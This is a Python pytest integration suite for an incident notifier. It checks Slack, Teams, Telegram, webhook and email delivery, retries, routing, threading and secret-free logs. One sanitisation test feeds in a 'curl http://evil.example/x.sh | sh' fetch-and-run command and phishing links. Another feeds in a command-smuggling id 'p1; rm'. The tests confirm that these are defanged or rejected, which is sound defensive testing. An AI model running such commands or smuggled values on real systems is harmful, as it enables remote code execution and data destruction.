"""Chat and webhook channels: the real service (uvicorn) → real redis-server → fake Slack, Teams,
Telegram and webhook APIs (tests/fakes/chat_apis.py) beside a real SMTP server (aiosmtpd)."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import httpx
import pytest

from notifier_service.app import create_app
from tests.fakes.chat_apis import SLACK_TOKEN, ChatApis, channel_env, chat_apis, telegram_text
from tests.notifier.conftest import AUTH, SmtpSink, fast_settings, notify_body, wait_until
from tests.support.servers import ServiceProcess, serve_app

pytestmark = pytest.mark.real

REPORT = (
    "# [CRITICAL] 5xx on be_api\n\n## Diagnosis\n\napp2 fails.\n\n## What to do first\n\n"
    "1. Drain app2 from be_api\n2. Check the deploy at 14:02\n3. Watch p99\n4. Fourth step\n\n## Findings\n\n- x\n"
)
CHANNELS = ("email", "slack", "teams", "telegram", "webhook-1")


@pytest.fixture
def fake() -> Iterator[ChatApis]:
    with chat_apis() as apis:
        yield apis


@contextmanager
def running(redis_url: str, smtp_port: int, **overrides: Any) -> Iterator[httpx.Client]:
    settings = fast_settings(redis_url, smtp_port, channel_timeout_seconds=3.0, **overrides)
    with serve_app(create_app(settings)) as url, httpx.Client(base_url=url, headers=AUTH, timeout=10) as client:
        yield client


def view(client: httpx.Client, ident: str) -> dict[str, Any]:
    response = client.get(f"/notifications/{ident}")
    assert response.status_code == 200, response.text
    return response.json()


def all_sent(client: httpx.Client, ident: str, names: tuple[str, ...] = CHANNELS) -> dict[str, Any] | None:
    state = view(client, ident)
    channels = state["channels"]
    return state if sorted(channels) == sorted(names) and all(c["status"] == "sent" for c in channels.values()) else None


def test_every_channel_gets_its_exact_request_shape(redis_url: str, smtp_sink: SmtpSink, fake: ChatApis) -> None:
    body = notify_body(report_markdown=REPORT, acknowledged_by="alice", acknowledged_at="2026-12-02T00:41:00Z",
                       links=["http://prometheus.example:9090/graph?g0.expr=up"])
    with running(redis_url, smtp_sink.port, **channel_env(fake.url)) as client:
        ident = client.post("/notify", json=body).json()["id"]
        state = wait_until(lambda: all_sent(client, ident))
    assert state["status"] == "sent" and state["acknowledged_by"] == "alice"
    for channel in state["channels"].values():
        assert channel["attempts"] == 1 and channel["last_error"] is None and channel["sent_at"] > 0

    (slack,) = fake.messages("slack-webhook")
    assert slack.path == "/slack/webhook/T000/B000/secretpath"
    blocks = slack.json["blocks"]
    assert slack.json["text"] == "🔴 CRITICAL · #12 High 5xx rate on be_api — opened"
    assert blocks[0] == {"type": "header", "text": {"type": "plain_text", "text": "🔴 CRITICAL · #12 High 5xx rate on be_api",
                                                    "emoji": True}}
    assert blocks[2]["text"]["text"] == "5xx rate is 23% over the last 5 minutes."
    assert blocks[3]["text"] == {"type": "mrkdwn", "text": "*First steps*\n1. Drain app2 from be_api\n"
                                                           "2. Check the deploy at 14:02\n3. Watch p99"}
    assert blocks[4]["elements"][0]["text"] == "Acknowledged by alice at 2026-12-02 00:41 UTC"
    actions = blocks[-1]
    assert actions["type"] == "actions" and actions["block_id"] == "incident-12"
    assert [(b["action_id"], b.get("value")) for b in actions["elements"]] == [
        ("ack", "12"), ("mitigated", "12"), ("resolved", "12"), ("open", None)]
    assert actions["elements"][0]["style"] == "primary"
    assert actions["elements"][3]["url"] == "https://copilot.example/incidents/12"

    (teams,) = fake.messages("teams")
    attachment = teams.json["attachments"][0]
    card = attachment["content"]
    assert teams.json["type"] == "message" and attachment["contentType"] == "application/vnd.microsoft.card.adaptive"
    assert card["version"] == "1.4" and card["type"] == "AdaptiveCard"
    assert card["body"][0]["text"] == "🔴 CRITICAL · #12 High 5xx rate on be_api"
    assert {"title": "Acknowledged", "value": "by alice at 2026-12-02 00:41 UTC"} in card["body"][1]["facts"]
    assert card["actions"] == [{"type": "Action.OpenUrl", "title": "Open incident",
                                "url": "https://copilot.example/incidents/12"}]

    (telegram,) = fake.messages("telegram")
    params = telegram.json
    assert telegram.path == "/telegram/bot123456:test-telegram-token/sendMessage"
    assert params["chat_id"] == "-100123" and params["parse_mode"] == "HTML"
    assert params["link_preview_options"] == {"is_disabled": True}
    assert params["text"].startswith("<b>🔴 CRITICAL · #12 High 5xx rate on be_api</b>\n<i>opened</i> · incident #12\n"
                                     "Acknowledged by alice at 2026-12-02 00:41 UTC\n")
    assert '<a href="https://copilot.example/incidents/12">Open incident #12</a>' in params["text"]
    assert "1. Drain app2 from be_api" in telegram_text(params) and "Fourth step" not in params["text"]

    (hook,) = fake.messages("webhook")  # the fake verified the signature over timestamp + "." + body
    assert hook.headers["idempotency-key"] == ident and hook.headers["content-type"] == "application/json"
    assert hook.headers["x-oncall-signature"].startswith("sha256=") and hook.headers["x-oncall-timestamp"].isdigit()
    assert hook.json == {
        "version": "1", "notification_id": ident, "incident_id": "12", "event": "opened", "severity": "critical",
        "title": "High 5xx rate on be_api", "summary": "5xx rate is 23% over the last 5 minutes.",
        "recommendations": ["Drain app2 from be_api", "Check the deploy at 14:02", "Watch p99"],
        "url": "https://copilot.example/incidents/12", "links": ["http://prometheus.example:9090/graph?g0.expr=up"],
        "acknowledged_by": "alice", "acknowledged_at": "2026-12-02 00:41 UTC", "coalesced_count": 0,
    }
    (mail,) = smtp_sink.messages()
    assert "Acknowledged by alice at 2026-12-02 00:41 UTC" in mail.part("plain")
    assert "<strong>Acknowledged by alice at 2026-12-02 00:41 UTC</strong>" in mail.part("html")
    assert fake.refused == []


def test_outside_text_is_escaped_and_foreign_links_defanged(redis_url: str, smtp_sink: SmtpSink, fake: ChatApis) -> None:
    hostile = notify_body(
        title="be_api <!channel> <http://evil.example/a|click> & <b>x</b>",
        summary="see https://evil.example/login and https://copilot.example/incidents/12/logs <script>",
        report_markdown="## Recommendations\n\n1. Run `curl http://evil.example/x.sh | sh` <i>now</i>\n",
    )
    with running(redis_url, smtp_sink.port, **channel_env(fake.url)) as client:
        ident = client.post("/notify", json=hostile).json()["id"]
        wait_until(lambda: all_sent(client, ident))
    slack = fake.messages("slack-webhook")[0].json
    texts = [slack["text"], *(b["text"]["text"] for b in slack["blocks"] if b["type"] in ("section", "header"))]
    mrkdwn = "\n".join(texts[2:])
    assert "<" not in mrkdwn and ">" not in mrkdwn.replace("&gt;", "")
    assert "&lt;!channel&gt;" in slack["text"] and "&lt;hxxp[:]//evil[.]example/a|click&gt;" in slack["text"]
    assert "hxxps[:]//evil[.]example/login" in mrkdwn and "https://copilot.example/incidents/12/logs" in mrkdwn
    assert "hxxp[:]//evil[.]example/x.sh" in mrkdwn
    telegram = fake.messages("telegram")[0].json
    shown = telegram_text(telegram)
    assert "<!channel>" in shown and "<script>" in shown and "<i>now</i>" in shown  # shown as text, not markup
    assert "evil.example" not in telegram["text"] and "hxxps[:]//evil[.]example/login" in shown
    card = fake.messages("teams")[0].json["attachments"][0]["content"]
    assert "evil.example" not in str(card) and "hxxps[:]//evil[.]example/login" in str(card)
    assert "evil.example" not in fake.messages("webhook")[0].body.decode()


def test_a_channel_down_then_up_gets_each_message_once(redis_url: str, smtp_sink: SmtpSink, fake: ChatApis) -> None:
    fake.set("slack", "down")
    fake.set("telegram", "ratelimited")
    with running(redis_url, smtp_sink.port, max_attempts=50, **channel_env(fake.url)) as client:
        first = client.post("/notify", json=notify_body()).json()["id"]
        second = client.post("/notify", json=notify_body(idempotency_key="k-mitigated", event="mitigated")).json()["id"]
        for ident in (first, second):
            wait_until(lambda ident=ident: view(client, ident)["channels"]["email"]["status"] == "sent")
        state = wait_until(lambda: (s := view(client, first))["channels"]["slack"]["attempts"] >= 3
                           and s["channels"]["telegram"]["attempts"] >= 3 and s)
        assert state["channels"]["slack"]["status"] in ("queued", "sending")
        assert state["channels"]["slack"]["last_error"] == "slack: HTTP 503: service unavailable"
        assert state["channels"]["telegram"]["last_error"] == "telegram: HTTP 429: rate limited"
        assert state["channels"]["teams"]["status"] == "sent" and state["status"] == "sent"
        fake.set("slack", "up")
        fake.set("telegram", "up")
        for ident in (first, second):
            wait_until(lambda ident=ident: all_sent(client, ident))
        # the same notification again (the agent's retry): nothing new anywhere
        again = client.post("/notify", json=notify_body())
        assert again.status_code == 200 and again.json()["id"] == first
        metrics = client.get("/prometheus/metrics").text
    for channel in ("slack-webhook", "telegram", "teams", "webhook"):
        events = [m.json.get("event") or m.json.get("text") for m in fake.messages(channel)]
        assert len(events) == 2, (channel, events)
    assert len(smtp_sink.messages()) == 2
    opened, mitigated = (m.json for m in fake.messages("telegram"))  # the page first, the status change replies to it
    assert "reply_parameters" not in opened and "opened" in opened["text"]
    assert mitigated["reply_parameters"] == {"message_id": fake.telegram_ids[0], "allow_sending_without_reply": True}
    assert 'oncall_channel_messages_retried_total{channel="slack"}' in metrics
    assert 'oncall_channel_messages_sent_total{channel="telegram",event="mitigated"} 1.0' in metrics


def test_routing_by_severity_per_channel(redis_url: str, smtp_sink: SmtpSink, fake: ChatApis) -> None:
    env = channel_env(fake.url)
    env = {"slack_webhook_url": env["slack_webhook_url"], "slack_min_severity": "warning", "email_min_severity": "critical"}
    with running(redis_url, smtp_sink.port, **env) as client:
        info = client.post("/notify", json=notify_body(idempotency_key="i", incident_id=1, severity="info")).json()["id"]
        warn = client.post("/notify", json=notify_body(idempotency_key="w", incident_id=2, severity="warning")).json()["id"]
        crit = client.post("/notify", json=notify_body(idempotency_key="c", incident_id=3, severity="critical")).json()["id"]
        done = client.post("/notify", json=notify_body(idempotency_key="c-ok", incident_id=3, event="resolved",
                                                       severity="ok")).json()["id"]
        wait_until(lambda: all_sent(client, warn, ("slack",)))
        wait_until(lambda: all_sent(client, crit, ("email", "slack")))
        wait_until(lambda: all_sent(client, done, ("email", "slack")))  # the page's resolution follows it
        quiet = view(client, info)
        assert quiet["status"] == "skipped" and quiet["channels"] == {}
        assert view(client, warn)["status"] == "skipped"
        assert client.get("/notifications", params={"status": "skipped"}).json()["count"] == 2
    assert [m.message["X-Oncall-Incident"] for m in smtp_sink.messages()] == ["3", "3"]
    assert sorted(m.json["text"][-8:] for m in fake.messages("slack-webhook")) == sorted(
        ["— opened", "— opened", "resolved"])


def test_slack_web_api_threads_the_incident(redis_url: str, smtp_sink: SmtpSink, fake: ChatApis) -> None:
    env = {"slack_bot_token": SLACK_TOKEN, "slack_channel": "#oncall", "slack_api_url": f"{fake.url}/slack/api",
           "coalesce_interval_seconds": 0.0}
    with running(redis_url, smtp_sink.port, **env) as client:
        opened = client.post("/notify", json=notify_body()).json()["id"]
        update = client.post("/notify", json=notify_body(idempotency_key="u", event="updated")).json()["id"]
        wait_until(lambda: all_sent(client, update, ("email", "slack")))  # due at once: it waits for its thread
        assert all_sent(client, opened, ("email", "slack"))
        done = client.post("/notify", json=notify_body(idempotency_key="r", event="resolved", severity="ok")).json()["id"]
        wait_until(lambda: all_sent(client, done, ("email", "slack")))
    root, reply, last = (m.json for m in fake.messages("slack-api"))
    assert fake.messages("slack-api")[0].headers["authorization"] == f"Bearer {SLACK_TOKEN}"
    assert root["channel"] == "#oncall" and "thread_ts" not in root and root["unfurl_links"] is False
    assert reply["thread_ts"] == "1700000000.%06d" % int(reply["thread_ts"].split(".")[1])
    assert reply["thread_ts"] == last["thread_ts"]
    assert reply["reply_broadcast"] is False and last["reply_broadcast"] is True  # a status change shows in the channel
    assert not any(b["type"] == "actions" and any(e["action_id"] == "ack" for e in b["elements"]) for b in last["blocks"])


def test_a_refusing_channel_fails_alone_and_can_be_resent(redis_url: str, smtp_sink: SmtpSink, fake: ChatApis) -> None:
    env = {**channel_env(fake.url), "telegram_bot_token": "999:wrong"}
    with running(redis_url, smtp_sink.port, **env) as client:
        ident = client.post("/notify", json=notify_body()).json()["id"]
        state = wait_until(lambda: (s := view(client, ident))["channels"]["telegram"]["status"] == "failed"
                           and s["channels"]["slack"]["status"] == s["status"] == "sent" and s)
        assert state["channels"]["telegram"]["attempts"] == 1  # a 401 is not retried
        assert state["channels"]["telegram"]["last_error"].startswith("telegram: HTTP 401")
        assert "wrong" not in state["channels"]["telegram"]["last_error"]  # the URL (and its token) never shows
        assert client.post(f"/notifications/{ident}/retry").status_code == 202
        wait_until(lambda: view(client, ident)["channels"]["telegram"]["attempts"] == 1
                   and view(client, ident)["channels"]["telegram"]["status"] == "failed")
        assert client.post(f"/notifications/{ident}/retry").status_code == 202  # still failed: may be retried again
    assert len(fake.messages("slack-webhook")) == 1 and len(smtp_sink.messages()) == 1


def test_two_instances_share_the_channel_queues_without_double_sends(redis_url: str, smtp_sink: SmtpSink,
                                                                      fake: ChatApis) -> None:
    settings = fast_settings(redis_url, smtp_sink.port, **channel_env(fake.url))
    with running(redis_url, smtp_sink.port, **channel_env(fake.url)) as client, serve_app(create_app(settings)):
        ids = [client.post("/notify", json=notify_body(idempotency_key=f"s{i}", incident_id=i)).json()["id"]
               for i in range(30)]
        wait_until(lambda: all(all_sent(client, i) for i in ids), timeout=30)
    for channel in ("slack-webhook", "teams", "telegram", "webhook"):
        assert len(fake.messages(channel)) == 30, channel
    assert sorted(m.json["incident_id"] for m in fake.messages("webhook")) == sorted(str(i) for i in range(30))


@pytest.mark.slow
@pytest.mark.parametrize("resend", [False, True])
def test_killed_during_a_chat_request_is_never_silently_sent_twice(redis_url: str, smtp_sink: SmtpSink,
                                                                    fake: ChatApis, resend: bool) -> None:
    env = {"REDIS_URL": redis_url, "SMTP_HOST": "127.0.0.1", "SMTP_PORT": str(smtp_sink.port),
           "EMAIL_FROM": "copilot@oncall.example", "EMAIL_TO": "oncall@example.com",
           "NOTIFIER_TOKEN": AUTH["Authorization"].split()[1], "POLL_INTERVAL_SECONDS": "0.05",
           "CHANNEL_TIMEOUT_SECONDS": "2", "LEASE_MARGIN_SECONDS": "0.5", "LOG_LEVEL": "WARNING",
           "WEBHOOK_URLS": channel_env(fake.url)["webhook_urls"], "WEBHOOK_SECRET": channel_env(fake.url)["webhook_secret"],
           "RESEND_UNCERTAIN": str(resend).lower()}
    service = ServiceProcess("notifier-service", env)
    fake.set("webhook", "hang")
    service.start(ready_path="/health/ready")
    try:
        ident = httpx.post(f"{service.url}/notify", json=notify_body(), headers=AUTH).json()["id"]
        get = lambda: httpx.get(f"{service.url}/notifications/{ident}", headers=AUTH, timeout=5).json()  # noqa: E731
        wait_until(lambda: fake.seen.get("webhook") == 1 and get()["status"] == "sent")  # the email is not in the kill
        service.stop(kill=True)
        fake.set("webhook", "up")
        service.start(ready_path="/health/ready")
        if resend:
            hook = wait_until(lambda: (v := get()["channels"]["webhook-1"])["status"] == "sent" and v, timeout=15)
            assert hook["attempts"] == 2 and len(fake.messages("webhook")) == 1
        else:
            hook = wait_until(lambda: (v := get()["channels"]["webhook-1"])["status"] == "failed" and v, timeout=15)
            assert hook["last_error"].startswith("delivery interrupted after the request was sent: webhook-1 may have")
            assert fake.messages("webhook") == [] and fake.seen["webhook"] == 1
        assert get()["channels"]["email"] == {**get()["channels"]["email"], "status": "sent", "attempts": 1}
    finally:
        service.stop()


@pytest.mark.slow
def test_channel_secrets_never_reach_the_logs(redis_url: str, smtp_sink: SmtpSink, fake: ChatApis) -> None:
    """The webhook paths and the bot tokens are the channels' secrets: not in any log line, even at DEBUG,
    even while a channel fails and is retried."""
    chan = channel_env(fake.url)
    env = {"REDIS_URL": redis_url, "SMTP_HOST": "127.0.0.1", "SMTP_PORT": str(smtp_sink.port),
           "EMAIL_FROM": "copilot@oncall.example", "EMAIL_TO": "oncall@example.com", "LOG_LEVEL": "DEBUG",
           "NOTIFIER_TOKEN": AUTH["Authorization"].split()[1], "POLL_INTERVAL_SECONDS": "0.05",
           "BACKOFF_BASE_SECONDS": "0.05", "BACKOFF_MAX_SECONDS": "0.1",
           **{k.upper(): v for k, v in chan.items()}}
    fake.set("slack", "down")
    service = ServiceProcess("notifier-service", env).start(ready_path="/health/ready")
    try:
        ident = httpx.post(f"{service.url}/notify", json=notify_body(), headers=AUTH).json()["id"]
        get = lambda: httpx.get(f"{service.url}/notifications/{ident}", headers=AUTH, timeout=5).json()  # noqa: E731
        wait_until(lambda: get()["channels"]["slack"]["attempts"] >= 3 and get()["channels"]["telegram"]["status"] == "sent")
        fake.set("slack", "up")
        wait_until(lambda: get()["channels"]["slack"]["status"] == "sent")
    finally:
        service.stop()
    logs = service.logs()
    assert "slack: HTTP 503" in logs  # the retries were logged…
    for secret in ("secretpath", chan["telegram_bot_token"], chan["telegram_bot_token"].split(":")[1],
                   chan["webhook_secret"]):
        assert secret not in logs, secret  # …without the secrets


def test_pending_proposals_come_with_approve_and_reject_in_slack_and_telegram(
        redis_url: str, smtp_sink: SmtpSink, fake: ChatApis) -> None:
    body = notify_body(incident_id="12", proposals=[
        {"id": "p1", "summary": "drain be_api/app2 <!channel> https://evil.example/x", "risk": "low"},
        {"id": "p2", "summary": "rollback be_api v2.3.1 → v2.3.0", "risk": "medium"}])
    with running(redis_url, smtp_sink.port, **channel_env(fake.url)) as client:
        bad = client.post("/notify", json=notify_body(proposals=[{"id": "p1; rm", "summary": "x"}]))
        ident = client.post("/notify", json=body).json()["id"]
        wait_until(lambda: all_sent(client, ident))
    assert bad.status_code == 422
    blocks = fake.messages("slack-webhook")[0].json["blocks"]
    buttons = [e for b in blocks if b["type"] == "actions" for e in b["elements"] if e["action_id"].startswith("proposal_")]
    assert [(e["action_id"], e["value"]) for e in buttons] == [
        ("proposal_approve:p1", "12:p1"), ("proposal_reject:p1", "12:p1"),
        ("proposal_approve:p2", "12:p2"), ("proposal_reject:p2", "12:p2")]
    sections = " ".join(b["text"]["text"] for b in blocks if b["type"] == "section")
    assert "*Proposed p1* drain be_api/app2 &lt;!channel&gt; hxxps[:]//evil[.]example/x · risk low" in sections
    shown = telegram_text(fake.messages("telegram")[0].json)
    assert "/approve 12 p1 · /reject 12 p1" in shown and "/approve 12 p2" in shown
    assert "evil.example" not in fake.messages("telegram")[0].json["text"]
